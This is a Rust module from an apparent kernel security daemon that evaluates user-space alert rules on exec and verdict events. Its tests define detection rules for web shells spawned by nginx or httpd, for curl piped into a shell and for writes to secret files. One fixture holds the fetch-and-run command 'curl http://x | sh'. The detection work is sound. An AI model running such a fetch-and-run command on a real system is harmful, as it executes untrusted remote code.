//! User-space `alert` rules: the plan's conditions (policy-lang's `condition::Compiled`,
//! regexes and all) evaluated by the daemon on each exec the kernel reports and on each
//! verdict event. An alert that fires is an event of its own, with verdict `alerted` and its
//! rule's message, severity and tags, on the same way as a verdict: events.jsonl, the store,
//! export.
//!
//! Scope: a rule applies to the processes its policy selects. The kernel says which policies
//! apply to a cgroup (`enf_cgroup_policies`: a set of policy slots, the kernel plan's policy
//! order); an exec record carries that set, a verdict's is looked up by its cgroup id.
//!
//! The event a condition sees follows policy-lang's model (`OwnedEvent`): the acting process
//! (for an exec, the caller: its image before the exec, with its ancestors) and the
//! operation.

use crate::verdict_log::RuleInfo;
use anyhow::Context;
use bpf_lsm::{NetOp as KNetOp, Record};
use policy_lang::condition::Compiled;
use policy_lang::event::{KernelEvent, Operation, OwnedEvent, Pod, Process};
use policy_lang::model::{FileOp, NetOp, Protocol};
use policy_lang::plan::{Enforcement, Plan};
use siem_export::event::{EventId, Verdict};
use siem_export::SecurityEvent;

struct AlertRule {
    id: u32,
    policy: u32,
    condition: Compiled,
}

/// The plan's `alert` rules, compiled once.
pub struct AlertRules {
    rules: Vec<AlertRule>,
    /// Policy id of each kernel policy slot.
    slots: Vec<u32>,
}

impl AlertRules {
    /// Compiles the conditions of `plan`'s alert rules; `slots` is the policy id of each
    /// kernel policy slot (`KernelPlan::policies` order).
    pub fn new(plan: &Plan, slots: Vec<u32>) -> anyhow::Result<Self> {
        let mut rules = Vec::new();
        for u in &plan.userspace {
            let Some(r) = plan.rules.iter().find(|r| r.id == u.rule) else {
                continue;
            };
            if r.enforcement != Enforcement::UserspaceAlert {
                continue;
            }
            let condition = Compiled::new(&u.condition)
                .with_context(|| format!("compiling the condition of alert rule `{}`", r.name))?;
            rules.push(AlertRule {
                id: r.id,
                policy: r.policy,
                condition,
            });
        }
        Ok(AlertRules { rules, slots })
    }

    /// No alert rules (ad-hoc `--deny-open` rules).
    pub fn none() -> Self {
        AlertRules {
            rules: Vec::new(),
            slots: Vec::new(),
        }
    }

    pub fn is_empty(&self) -> bool {
        self.rules.is_empty()
    }

    pub fn len(&self) -> usize {
        self.rules.len()
    }

    fn in_scope(&self, slots: u64, policy: u32) -> bool {
        self.slots
            .iter()
            .take(64)
            .enumerate()
            .any(|(slot, id)| *id == policy && slots & (1u64 << slot) != 0)
    }

    /// The rules (ids, in plan order) whose policy is among `slots` and whose condition
    /// holds on `ev`.
    pub fn fired(&self, slots: u64, ev: &OwnedEvent) -> Vec<u32> {
        self.rules
            .iter()
            .filter(|r| self.in_scope(slots, r.policy) && r.condition.eval(ev))
            .map(|r| r.id)
            .collect()
    }

    /// Like [`AlertRules::fired`] over several operations of one event (an open that reads
    /// and writes is a `read` and a `write`): each rule at most once.
    pub fn fired_any(&self, slots: u64, ev: &mut OwnedEvent, ops: Vec<Operation>) -> Vec<u32> {
        let mut out: Vec<u32> = Vec::new();
        for op in ops {
            ev.op = op;
            for id in self.fired(slots, ev) {
                if !out.contains(&id) {
                    out.push(id);
                }
            }
        }
        out
    }
}

fn lossy(b: &siem_export::event::ByteText) -> String {
    b.to_string_lossy().into_owned()
}

/// What a condition sees of an (enriched) event, with operation `op`.
pub fn owned_event(ev: &SecurityEvent, op: Operation) -> OwnedEvent {
    let p = ev.process.as_ref();
    OwnedEvent {
        process: Process {
            exe: p
                .and_then(|p| p.exe.as_ref())
                .map(lossy)
                .unwrap_or_default(),
            cmdline: p
                .map(|p| p.argv.iter().map(lossy).collect::<Vec<_>>().join(" "))
                .unwrap_or_default(),
            uid: p.map_or(0, |p| p.uid),
            // An ancestor whose executable is unknown keeps its place, so that the first
            // is always the parent.
            ancestors: p
                .map(|p| {
                    p.ancestors
                        .iter()
                        .map(|a| a.exe.as_ref().map(lossy).unwrap_or_default())
                        .collect()
                })
                .unwrap_or_default(),
        },
        cgroup: ev
            .cgroup
            .as_ref()
            .and_then(|c| c.path.as_ref())
            .map_or_else(|| "/".to_string(), lossy),
        container_id: ev.container.as_ref().map(|c| c.id.clone()),
        pod: ev.kubernetes.as_ref().map(|k| Pod {
            namespace: k.namespace.clone(),
            name: k.pod_name.clone(),
            labels: Vec::new(),
        }),
        op,
    }
}

/// The operations of a verdict record, as policy-lang names them: an open is one file
/// operation per access bit; a network operation on a protocol other than TCP or UDP is
/// none (no condition can name it).
pub fn operations(record: &Record) -> Vec<Operation> {
    match record {
        Record::FileOpen(f) => {
            let path = String::from_utf8_lossy(&f.path).into_owned();
            FileOp::ALL
                .iter()
                .filter(|op| f.access & op.bit() != 0)
                .map(|op| Operation::File {
                    op: *op,
                    path: path.clone(),
                })
                .collect()
        }
        // A denied exec never ran: its command line is not known to the kernel's record.
        Record::Exec(e) => vec![Operation::Exec {
            path: String::from_utf8_lossy(&e.path).into_owned(),
            cmdline: String::new(),
        }],
        Record::Net(n) => {
            let protocol = match n.protocol {
                6 => Protocol::Tcp,
                17 => Protocol::Udp,
                _ => return Vec::new(),
            };
            let op = match n.op {
                KNetOp::Connect => NetOp::Connect,
                KNetOp::Bind => NetOp::Bind,
                KNetOp::Listen => NetOp::Listen,
                KNetOp::Send => NetOp::Send,
            };
            vec![Operation::Network {
                op,
                addr: n.addr,
                port: n.port,
                protocol,
            }]
        }
        // The op bits are policy-lang's FileOp bits; a rename or link is decided on both
        // of its paths.
        Record::Path(p) => {
            let paths = std::iter::once(&p.path).chain(p.path2.as_ref());
            paths
                .flat_map(|path| {
                    let path = String::from_utf8_lossy(path).into_owned();
                    FileOp::ALL
                        .iter()
                        .filter(|op| p.op & op.bit() != 0)
                        .map(move |op| Operation::File {
                            op: *op,
                            path: path.clone(),
                        })
                        .collect::<Vec<_>>()
                })
                .collect()
        }
        Record::Kernel(k) => {
            let event = match k.subject {
                bpf_lsm::KernelSubject::Op(op) => {
                    match policy_lang::model::KernelOp::from_name(op.name()) {
                        Some(op) => KernelEvent::Op(op),
                        None => return Vec::new(),
                    }
                }
                bpf_lsm::KernelSubject::Capability(c) => KernelEvent::Capability(c),
                bpf_lsm::KernelSubject::Syscall(s) => KernelEvent::Syscall(s),
            };
            vec![Operation::Kernel(event)]
        }
        Record::ProcExec(_) | Record::ProcFork(_) | Record::ProcExit(_) => Vec::new(),
    }
}

/// The event of alert `rule` firing on `base`: the same process, workload and target, a
/// new id, verdict `alerted`, and the rule's names, message, severity and tags.
pub fn alert_event(base: &SecurityEvent, rule: &RuleInfo) -> SecurityEvent {
    let mut ev = base.clone();
    ev.id = EventId::generate(ev.time);
    ev.verdict = Verdict::Alerted;
    ev.policy = rule.policy.clone();
    ev.rule = Some(rule.rule.clone());
    ev.message = if rule.message.is_empty() {
        format!("alert `{}` fired", rule.label)
    } else {
        rule.message.clone()
    };
    ev.severity = rule.severity;
    ev.tags = rule.tags.clone();
    ev
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
    use super::*;
    use crate::verdict_log::Names;
    use policy_lang::KernelFeatures;
    use siem_export::event::{Ancestor, ByteText, Cgroup, Container, EventClass};
    use siem_export::{Severity, Timestamp};

    fn plan(yaml: &str) -> Plan {
        let set = policy_lang::load_sources([("p.yaml", yaml)]).unwrap();
        policy_lang::compile(&set, &KernelFeatures::full()).unwrap()
    }

    const POLICIES: &str = r#"
policies:
  - name: web
    select: {cgroups: ["/kubepods/**"]}
    mode: enforce
    rules:
      - name: web-shell
        message: shell spawned by a web server
        severity: critical
        tags: [T1505.003]
        action: alert
        condition: proc.name in (sh, bash) and proc.parent regex '.*/(nginx|httpd)$' and evt.class = exec
      - name: curl-pipe
        action: alert
        condition: proc.cmdline regex 'curl .*\|\s*(ba)?sh'
  - name: files
    select: {host: true}
    mode: enforce
    rules:
      - name: secrets
        action: alert
        condition: file.path startswith /etc/secret and file.op = write
"#;

    fn base(exe: &str, argv: &[&str], parent: &str) -> SecurityEvent {
        let mut ev = SecurityEvent::new(
            Timestamp::from_unix_nanos(1_700_000_000_000_000_000),
            "h",
            Verdict::Audited,
            EventClass::Exec,
            "exec",
            Severity::High,
        );
        ev.process = Some(siem_export::event::Process {
            pid: 10,
            tgid: 10,
            ppid: Some(9),
            uid: 33,
            gid: 33,
            user: None,
            comm: ByteText::new(b"sh"),
            exe: Some(ByteText::new(exe.as_bytes())),
            argv: argv.iter().map(|a| ByteText::new(a.as_bytes())).collect(),
            argv_truncated: false,
            cwd: None,
            exec_id: Some("x".into()),
            start_time: None,
            ancestors: vec![Ancestor {
                pid: 9,
                exe: Some(ByteText::new(parent.as_bytes())),
                exec_id: Some("y".into()),
            }],
        });
        ev.cgroup = Some(Cgroup {
            id: 7,
            path: Some(ByteText::new(
                b"/kubepods/burstable/pod1/cri-containerd-ab.scope",
            )),
        });
        ev.container = Some(Container {
            id: "ab".into(),
            runtime: Some("containerd".into()),
        });
        ev
    }

    #[test]
    fn fires_by_condition_and_policy_scope() {
        let p = plan(POLICIES);
        let rules = AlertRules::new(&p, vec![0, 1]).unwrap();
        assert_eq!(rules.len(), 3);
        let exec = |path: &str| Operation::Exec {
            path: path.into(),
            cmdline: String::new(),
        };
        let ev = base("/bin/sh", &["sh", "-c", "id"], "/usr/sbin/nginx");
        let o = owned_event(&ev, exec("/usr/bin/id"));
        assert_eq!(o.process.ancestors, vec!["/usr/sbin/nginx".to_string()]);
        assert_eq!(o.container_id.as_deref(), Some("ab"));
        // Both policies' slots: web-shell fires.
        assert_eq!(rules.fired(0b11, &o), vec![0]);
        // Only the `files` policy's slot: out of web-shell's scope.
        assert!(rules.fired(0b10, &o).is_empty());
        // Not under a web server.
        let o = owned_event(&base("/bin/sh", &["sh"], "/usr/sbin/sshd"), exec("/bin/id"));
        assert!(rules.fired(0b11, &o).is_empty());
        // The regex on the command line.
        let o = owned_event(
            &base(
                "/bin/bash",
                &["bash", "-c", "curl http://x | sh"],
                "/sbin/init",
            ),
            exec("/usr/bin/curl"),
        );
        assert_eq!(rules.fired(0b11, &o), vec![1]);
    }

    #[test]
    fn a_verdict_is_one_operation_per_access_bit() {
        let p = plan(POLICIES);
        let rules = AlertRules::new(&p, vec![0, 1]).unwrap();
        let rec = bpf_lsm::FileRecord {
            header: bpf_lsm::Header {
                action: bpf_lsm::Action::Audit,
                ktime_ns: 1,
                cgroup_id: 7,
                pid: 10,
                tid: 10,
                uid: 0,
                gid: 0,
                rule_id: None,
                policy_id: None,
                flags: 0,
                comm: "sh".into(),
            },
            f_flags: 2,
            f_mode: 3,
            access: FileOp::Read.bit() | FileOp::Write.bit(),
            path: b"/etc/secret/key".to_vec(),
        };
        let ops = operations(&Record::FileOpen(rec));
        assert_eq!(ops.len(), 2);
        let ev = base("/bin/sh", &["sh"], "/sbin/init");
        let mut o = owned_event(&ev, ops[0].clone());
        assert_eq!(rules.fired_any(0b10, &mut o, ops.clone()), vec![2]);
        assert!(rules.fired_any(0b01, &mut o, ops).is_empty());
    }

    #[test]
    fn an_alert_event_carries_its_rule() {
        let p = plan(POLICIES);
        let names = Names::of(&p);
        let ev = base("/bin/sh", &["sh"], "/usr/sbin/nginx");
        let a = alert_event(&ev, &names.rules[&0]);
        assert_eq!(a.verdict, Verdict::Alerted);
        assert_ne!(a.id, ev.id);
        assert_eq!(a.policy.as_deref(), Some("web"));
        assert_eq!(a.rule.as_deref(), Some("web-shell"));
        assert_eq!(a.message, "shell spawned by a web server");
        assert_eq!(a.severity, Severity::Critical);
        assert_eq!(a.tags, vec!["T1505.003".to_string()]);
        assert_eq!(a.process, ev.process);
        assert_eq!(a.container, ev.container);
    }
}
